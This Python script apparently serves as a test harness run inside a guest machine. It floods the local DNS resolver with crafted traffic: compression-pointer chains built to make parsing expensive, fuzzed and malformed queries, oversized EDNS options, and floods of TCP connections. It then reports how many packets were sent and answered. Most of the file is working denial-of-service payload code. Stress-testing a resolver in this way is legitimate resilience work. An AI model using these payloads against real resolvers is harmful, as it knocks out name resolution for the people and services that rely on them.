"""Runs in a guest: attacks the resolver for argv[2] seconds in the way argv[1], and prints what was sent and answered."""

import contextlib
import json
import os
import random
import socket
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path

RESOLVER = next(
    line.split()[1] for line in Path("/etc/resolv.conf").read_text().splitlines() if line.startswith("nameserver")
)
QUESTION = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\x05plain\x04test\0\0\1\0\1"


def pointers(depth: int, records: int) -> bytes:
    """A question whose other records are names of `depth` pointers to pointers: 2 KB that cost an innocent reader 90 ms."""
    links, target, start = b"", 12, 12 + 3 + 4 + 12
    for number in range(depth):
        links, target = links + struct.pack("!H", 0xC000 | target), start + 2 * number
    fixed = struct.pack("!HHI", 65_280, 1, 0)
    body = b"\xc0\x0c" + fixed + struct.pack("!H", len(links)) + links
    return (
        struct.pack("!HHHHHH", 1, 0x0100, 1, records, 0, 0)
        + b"\1a\0\0\1\0\1"
        + body
        + (struct.pack("!H", 0xC000 | target) + fixed + b"\0\1x") * (records - 1)
    )


def noise() -> bytes:
    """Anything: random bytes, damaged questions, counts that lie, options without end, labels that are no text."""
    kind = random.randrange(6)
    if kind == 0:
        return os.urandom(random.randrange(1, 1400))
    if kind == 1:
        damaged = bytearray(QUESTION)
        for _ in range(random.randrange(1, 6)):
            damaged[random.randrange(len(damaged))] = random.randrange(256)
        return bytes(damaged)
    if kind == 2:
        return (
            struct.pack("!HHHHHH", 7, random.randrange(65536), *(random.randrange(65536) for _ in range(4)))
            + QUESTION[12:]
            + os.urandom(random.randrange(900))
        )
    if kind == 3:
        options = struct.pack("!HH", 12, 0) * random.randrange(300)
        return (
            struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 1)
            + QUESTION[12:]
            + b"\0"
            + struct.pack("!HHIH", 41, 65535, 0, len(options))
            + options
        )
    if kind == 4:
        labels = b"".join(bytes([63]) + os.urandom(63) for _ in range(random.randrange(1, 5)))
        return (
            struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0)
            + labels
            + b"\0"
            + struct.pack("!HH", random.randrange(65536), random.randrange(65536))
        )
    return pointers(random.randrange(1, 500), random.randrange(2, 60))


def datagrams(make: Callable[[], bytes], seconds: float) -> tuple[int, int]:
    sent = answered = 0
    end = time.monotonic() + seconds
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((RESOLVER, 53))
        sock.setblocking(False)
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                sock.send(make())
                sent += 1
            with contextlib.suppress(OSError):
                while sock.recv(9000):
                    answered += 1
            time.sleep(0.001)
    return sent, answered


def streams(make: Callable[[], bytes], seconds: float) -> tuple[int, int]:
    """As many connections as there are, each with as many questions as go in."""
    sent = answered = 0
    end = time.monotonic() + seconds
    open_now: list[socket.socket] = []
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            sock = socket.create_connection((RESOLVER, 53), timeout=1)
            sock.setblocking(False)
            open_now.append(sock)
            sent += 1
        for sock in list(open_now):
            with contextlib.suppress(BlockingIOError):
                try:
                    packet = make()
                    sock.send((struct.pack("!H", len(packet)) + packet) * 20)
                    if data := sock.recv(65536):
                        answered += data.count(b"\5plain\4test")
                    else:
                        open_now.remove(sock)
                except (ConnectionError, TimeoutError):
                    open_now.remove(sock)
    return sent, answered


WAYS: dict[str, Callable[[float], tuple[int, int]]] = {
    "pointers": lambda seconds: datagrams(lambda: pointers(450, 100), seconds),
    "giant": lambda seconds: datagrams(lambda: pointers(400, 4000), seconds),
    "noise": lambda seconds: datagrams(noise, seconds),
    "questions": lambda seconds: datagrams(lambda: QUESTION, seconds),
    "streams": lambda seconds: streams(lambda: QUESTION, seconds),
    "stream noise": lambda seconds: streams(noise, seconds),
}
print(json.dumps(WAYS[sys.argv[1]](float(sys.argv[2]))))
